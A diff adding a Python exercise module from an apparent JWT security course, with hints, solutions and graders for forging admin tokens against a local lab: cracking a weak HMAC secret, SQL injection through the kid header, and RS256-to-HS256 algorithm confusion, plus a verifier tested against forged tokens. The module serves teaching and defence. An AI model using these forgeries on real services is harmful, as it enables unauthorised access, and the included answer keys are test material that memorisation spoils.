@@ -1,0 +1,308 @@
+"""Exercises of notebook 06, attacks and defences: three attacks as tools, and a verifier that refuses them all.
+
+Each forge check runs the learner's function against a fresh lab of its own with one flaw switched on, and
+proves success the only way that counts: /api/admin answers 200. Then it switches the flaw off and shows the
+same token refused. The verifier check feeds a battery of forgeries and genuine tokens to the learner's
+function, and watches which algorithms it lets PyJWT accept.
+"""
+
+from __future__ import annotations
+
+import contextlib
+import functools
+import inspect
+import json
+
+import jwt
+from cryptography.hazmat.primitives import serialization
+from cryptography.hazmat.primitives.asymmetric import rsa
+from jwt.algorithms import RSAAlgorithm
+
+from coursekit.attacks import b64url_json, hs256_by_hand, serve_jwks
+from coursekit.client import bearer, claims, http_session, log_in
+from coursekit.exercise import Exercise, Incorrect, require_function
+from coursekit.lab import COURSE_START, fresh_lab
+from coursekit.tokenview import decode_segment
+from labserver import LabServer
+
+__all__ = ["q1", "q2", "q3", "q4"]
+
+
+def _forged_token(forged) -> dict:
+    if not isinstance(forged, str):
+        raise Incorrect(f"forge should return the forged token as a str, not {type(forged).__name__}")
+    try:
+        payload = claims(forged)
+    except (ValueError, IndexError):
+        raise Incorrect("what forge returned is not a JWT (header.payload.signature)") from None
+    if not isinstance(payload, dict) or "admin" not in (payload.get("roles") or []):
+        roles = payload.get("roles") if isinstance(payload, dict) else None
+        raise Incorrect(f"the forged token says roles {roles!r}: the admin route needs \"roles\": [\"admin\"]")
+    return payload
+
+
+def _attack(lab: LabServer, flaw: str, forged: str, advice: dict[str, str]) -> str:
+    """Send the forged token to /api/admin with the flaw on, then off; return the success message."""
+    _forged_token(forged)
+    http = http_session()
+    r = http.get(lab.url + "/api/admin", headers=bearer(forged), timeout=10)
+    if r.status_code != 200:
+        why = r.json().get("error_description", "")
+        raise Incorrect(f"on a fresh lab with the flaw {flaw} on, /api/admin answered {r.status_code} ({why})"
+                        + (f": {advice[why]}" if why in advice else ""))
+    lab.flaws.set([])
+    r = http.get(lab.url + "/api/admin", headers=bearer(forged), timeout=10)
+    return (f"your token got 200 from /api/admin on a fresh lab with {flaw} on; with the flaw off, the same "
+            f"token gets {r.status_code} ({r.json().get('error_description')}).")
+
+
+class CrackAndForge(Exercise):
+    title = "Crack the weak secret, forge an admin token"
+    _hints = [
+        "Split the token: the signature is the base64url HMAC-SHA256 of 'header.payload' under the secret. "
+        "Try every word of wordlist() until one gives that signature.",
+        "b64url(hmac.new(word.encode(), f'{head}.{payload}'.encode(), hashlib.sha256).digest()) == signature "
+        "for the right word. Then sign the token's claims with roles ['admin'], under the token's own header.",
+        "hs256_by_hand(jwt.get_unverified_header(token), admin_claims, secret) builds the token.",
+    ]
+    _solution = """
+        def forge(token: str) -> str:
+            head, payload, signature = token.split(".")
+            signing_input = f"{head}.{payload}".encode()
+            secret = next(word.encode() for word in wordlist()
+                          if b64url(hmac.new(word.encode(), signing_input, hashlib.sha256).digest()) == signature)
+            admin_claims = {**json.loads(decode_segment(payload)), "roles": ["admin"]}
+            return hs256_by_hand(jwt.get_unverified_header(token), admin_claims, secret)
+    """
+
+    def _check(self, forge):
+        require_function(forge, "forge")
+        lab = fresh_lab()
+        lab.flaws.set(["weak-secret"])
+        forged = forge(log_in(lab, "alice")["access_token"])
+        return _attack(lab, "weak-secret", forged, {
+            "signature is invalid": "the signature is not made with this lab's secret. Crack the token forge() "
+                                    "is given: every lab picks its own word, the notebook's lab too",
+            "unknown key id": "keep the kid of the token you were given: the server finds its weak key by it",
+        })
+
+
+class InjectTheKid(Exercise):
+    title = "SQL injection in kid"
+    _hints = [
+        "The server runs f\"SELECT secret FROM keys WHERE kid = '{kid}'\". Choose a kid that closes the quote, "
+        "adds a UNION SELECT of a secret you choose, and comments the rest out with --.",
+        "kid = \"x' UNION SELECT 'my-secret' --\" makes the lookup return 'my-secret'. Sign with b'my-secret'.",
+    ]
+    _solution = """
+        def forge(token: str) -> str:
+            admin_claims = {**claims(token), "roles": ["admin"]}
+            header = {"alg": "HS256", "typ": "at+jwt", "kid": "x' UNION SELECT 'my-secret' --"}
+            return hs256_by_hand(header, admin_claims, b"my-secret")
+    """
+
+    def _check(self, forge):
+        require_function(forge, "forge")
+        lab = fresh_lab()
+        lab.flaws.set(["kid-sql"])
+        forged = forge(log_in(lab, "alice")["access_token"])
+        return _attack(lab, "kid-sql", forged, {
+            "unknown key id": "the lookup found no secret. The kid must close the quote, UNION SELECT your secret "
+                              "and end with -- so the server's closing quote becomes a comment",
+            "signature is invalid": "the lookup returned a secret, but not the one you signed with: sign with "
+                                    "exactly the text your UNION SELECT returns, as bytes",
+            "algorithm must be HS256": "the header's alg must be HS256, the lab's algorithm",
+        })
+
+
+class ConfuseTheAlgorithm(Exercise):
+    title = "Algorithm confusion: the public key as an HMAC secret"
+    _hints = [
+        "Build the server's public key from the JWK Set (RSAAlgorithm.from_jwk), and write it as PEM "
+        "(public_bytes with Encoding.PEM and PublicFormat.SubjectPublicKeyInfo).",
+        "Those PEM bytes are the HMAC secret. PyJWT refuses a PEM key for HS256 (rightly), so sign by hand: "
+        "hs256_by_hand(header, admin_claims, pem), with the token's header but alg HS256.",
+    ]
+    _solution = """
+        def forge(token: str, jwks: dict) -> str:
+            public_key = RSAAlgorithm.from_jwk(jwks["keys"][0])
+            pem = public_key.public_bytes(serialization.Encoding.PEM, serialization.PublicFormat.SubjectPublicKeyInfo)
+            admin_claims = {**claims(token), "roles": ["admin"]}
+            header = {**jwt.get_unverified_header(token), "alg": "HS256"}
+            return hs256_by_hand(header, admin_claims, pem)
+    """
+
+    def _check(self, forge):
+        require_function(forge, "forge")
+        lab = fresh_lab(algorithm="RS256")
+        lab.flaws.set(["alg-confusion"])
+        jwks = http_session().get(lab.url + "/.well-known/jwks.json", timeout=10).json()
+        try:
+            forged = forge(log_in(lab, "alice")["access_token"], jwks)
+        except jwt.InvalidKeyError as error:
+            raise Incorrect(f"PyJWT refused: {error}. It will not use a PEM public key as an HMAC secret "
+                            "(that refusal is its defence against this very attack): sign by hand, "
+                            "hs256_by_hand(header, claims, pem)") from None
+        _forged_token(forged)
+        alg = json.loads(decode_segment(forged.split(".")[0])).get("alg")
+        if alg != "HS256":
+            raise Incorrect(f"the forged token's header says alg {alg!r}: the confusion needs HS256, so that the "
+                            "server takes its public key for an HMAC secret")
+        return _attack(lab, "alg-confusion", forged, {
+            "signature is invalid": "the HMAC secret must be the PEM bytes exactly, SubjectPublicKeyInfo form "
+                                    "with its final newline, built from the lab's JWK Set",
+            "unknown key id": "keep the token's kid: the server looks its public key up by it",
+        })
+
+
+# --- q4: a verifier that refuses the whole battery --------------------------------------------------
+
+@functools.lru_cache(maxsize=1)
+def _attacker_key() -> rsa.RSAPrivateKey:
+    return rsa.generate_private_key(65537, 2048)
+
+
+def _server_private_key(lab: LabServer, kid: str):
+    """The lab's private key, read from its key file: the check plays a careless issuer, not an attacker."""
+    with open(lab.keys_path) as f:
+        jwk = next(k for k in json.load(f)["keys"] if k["kid"] == kid)
+    return jwt.PyJWK({k: v for k, v in jwk.items() if not k.startswith("lab_")}, algorithm="RS256").key
+
+
+@contextlib.contextmanager
+def _algorithms_asked():
+    """Record the ``algorithms`` a verifier lets PyJWT accept, for every signature PyJWT checks meanwhile."""
+    original = jwt.api_jws.PyJWS._verify_signature
+    signature = inspect.signature(original)
+    asked: list[list[str]] = []
+
+    def spy(*args, **kwargs):
+        algorithms = signature.bind(*args, **kwargs).arguments.get("algorithms")
+        if algorithms is not None:
+            asked.append(list(algorithms))
+        return original(*args, **kwargs)
+
+    jwt.api_jws.PyJWS._verify_signature = spy
+    try:
+        yield asked
+    finally:
+        jwt.api_jws.PyJWS._verify_signature = original
+
+
+class VerifyAgainstTheBattery(Exercise):
+    title = "A verifier that refuses the whole battery"
+    _hints = [
+        "Three decisions are the server's, never the token's: the algorithm (algorithms=['RS256']), the key "
+        "(from the lab's JWK Set by kid, nothing from the header) and the claims (audience, issuer, exp).",
+        "Keys: jwt.PyJWKSet.from_dict(<the lab's JWK Set>)[kid]; a kid it does not have raises KeyError: good. "
+        "Claims: audience='lab-api', issuer=lab.settings.issuer_id, options={'require': ['exp', 'iss', 'aud']}.",
+        "Time: PyJWT compares exp and iat with your computer's clock, years before the lab's 2030. Pass "
+        "options={..., 'verify_exp': False, 'verify_iat': False} and compare claims['exp'] with lab.clock.now().",
+    ]
+    _solution = """
+        def verify(token: str, lab) -> dict:
+            keys = jwt.PyJWKSet.from_dict(lab.http.get(lab.url + "/.well-known/jwks.json").json())
+            key = keys[jwt.get_unverified_header(token)["kid"]]       # only the server's own keys
+            verified = jwt.decode(token, key, algorithms=["RS256"], audience="lab-api",
+                                  issuer=lab.settings.issuer_id,
+                                  options={"require": ["exp", "iss", "aud"],
+                                           "verify_exp": False, "verify_iat": False})  # the lab's clock, below
+            if lab.clock.now() >= verified["exp"]:
+                raise jwt.ExpiredSignatureError("expired by the lab clock")
+            return verified
+    """
+
+    def _check(self, verify):
+        require_function(verify, "verify")
+        lab = fresh_lab(algorithm="RS256")
+        for name in ("alice", "admin"):
+            token = log_in(lab, name)["access_token"]
+            try:
+                verified = verify(token, lab)
+            except jwt.ImmatureSignatureError as error:
+                raise Incorrect(f"your verifier refused {name}'s genuine token: {error}. PyJWT compared iat with "
+                                "your computer's clock, but the lab lives in 2030: pass 'verify_iat': False in "
+                                "options and judge time by lab.clock.now()") from None
+            except Exception as error:  # noqa: BLE001 - any refusal of a genuine token is the mistake
+                raise Incorrect(f"your verifier refused {name}'s genuine token: "
+                                f"{type(error).__name__}: {error}") from None
+            if not isinstance(verified, dict) or verified.get("username") != name:
+                raise Incorrect(f"verify should return the token's claims as a dict; for {name}'s token, "
+                                f"claims['username'] == '{name}', but it returned {verified!r}")
+        alice = log_in(lab, "alice")["access_token"]
+        with serve_jwks({"keys": [self._attacker_jwk("from-jku")]}) as jku:
+            with _algorithms_asked() as asked:
+                for label, token, why, moves_clock in self._battery(lab, alice, jku):
+                    if moves_clock:
+                        lab.clock.set(claims(alice)["exp"] + 60)
+                    try:
+                        verify(token, lab)
+                    except Exception:  # noqa: BLE001 - a refusal is what we want, whatever it raises
+                        accepted = False
+                    else:
+                        accepted = True
+                    finally:
+                        lab.clock.set(COURSE_START)
+                    if accepted:
+                        raise Incorrect(f"your verifier accepted {label}: {why}")
+                    if any(algs != ["RS256"] for algs in asked):
+                        raise Incorrect(
+                            f"your verifier refused {label}, but it let PyJWT accept algorithms {asked[-1]}, "
+                            "taken from the token: that refusal was PyJWT's key check, not yours. "
+                            "Pin algorithms=['RS256'] (RFC 8725 §3.1)")
+        return ("genuine tokens in; a tampered payload, alg none, PS256, HS256 keyed with the public key, keys "
+                "from the jwk and jku headers, an expired token and tokens for another audience and issuer, "
+                "all out. That is RFC 8725 §3.1, §3.8-3.10 in one function.")
+
+    @staticmethod
+    def _attacker_jwk(kid: str) -> dict:
+        return {**RSAAlgorithm.to_jwk(_attacker_key().public_key(), as_dict=True), "kid": kid, "alg": "RS256"}
+
+    def _battery(self, lab: LabServer, alice: str, jku: str):
+        """(what it is, the token, why accepting it is wrong, whether the lab clock moves past exp)."""
+        header = jwt.get_unverified_header(alice)
+        own_key = _server_private_key(lab, header["kid"])
+        mine = _attacker_key()
+        payload = claims(alice)
+        admin = {**payload, "roles": ["admin"]}
+        head, _body, signature = alice.split(".")
+        pem = own_key.public_key().public_bytes(serialization.Encoding.PEM,
+                                                serialization.PublicFormat.SubjectPublicKeyInfo)
+        return [
+            ("alice's token with roles changed to admin after signing", f"{head}.{b64url_json(admin)}.{signature}",
+             "its signature no longer matches the payload: verify the signature", False),
+            ("a token signed with PS256 by the lab's own key",
+             jwt.encode(admin, own_key, algorithm="PS256", headers={"kid": header["kid"], "typ": "at+jwt"}),
+             "its header chose PS256 and your verifier followed: the algorithm came from the token. "
+             "Pin algorithms=['RS256'] (RFC 8725 §3.1)", False),
+            ('a token with alg "none" and no signature',
+             f"{b64url_json({**header, 'alg': 'none'})}.{b64url_json(admin)}.",
+             "alg none means unsigned: pin the algorithm, algorithms=['RS256'] (RFC 8725 §3.1)", False),
+            ("an HS256 token keyed with the lab's public key (PEM)",
+             hs256_by_hand({**header, "alg": "HS256"}, admin, pem),
+             "that is algorithm confusion: pin algorithms=['RS256'] (RFC 8725 §3.1)", False),
+            ("a token signed with the key its own jwk header carries",
+             jwt.encode(admin, mine, algorithm="RS256",
+                        headers={"kid": "from-jwk", "typ": "at+jwt", "jwk": self._attacker_jwk("from-jwk")}),
+             "anyone can sign with a key they bring: take keys only from the lab's JWK Set (RFC 8725 §3.10)",
+             False),
+            ("a token whose jku header points to the attacker's JWK Set",
+             jwt.encode(admin, mine, algorithm="RS256", headers={"kid": "from-jku", "typ": "at+jwt", "jku": jku}),
+             "the token chose where its key comes from: take keys only from the lab's own JWK Set", False),
+            ("alice's genuine token a minute after it expired by the lab clock", alice,
+             "compare exp with lab.clock.now(): PyJWT compares it with your computer's clock, years before "
+             "the lab's 2030", True),
+            ("a token for another audience ('billing-api'), signed with the lab's key",
+             jwt.encode({**payload, "aud": "billing-api"}, own_key, algorithm="RS256",
+                        headers={"kid": header["kid"], "typ": "at+jwt"}),
+             "a token meant for another service must not open this one: pass audience='lab-api' "
+             "(RFC 8725 §3.9)", False),
+            ("a token from another issuer, signed with the lab's key",
+             jwt.encode({**payload, "iss": "https://staging.jwt-course.test"}, own_key, algorithm="RS256",
+                        headers={"kid": header["kid"], "typ": "at+jwt"}),
+             "pass issuer=lab.settings.issuer_id (RFC 8725 §3.8)", False),
+        ]
+
+
+q1, q2, q3, q4 = (CrackAndForge("q1"), InjectTheKid("q2"), ConfuseTheAlgorithm("q3"),
+                  VerifyAgainstTheBattery("q4"))
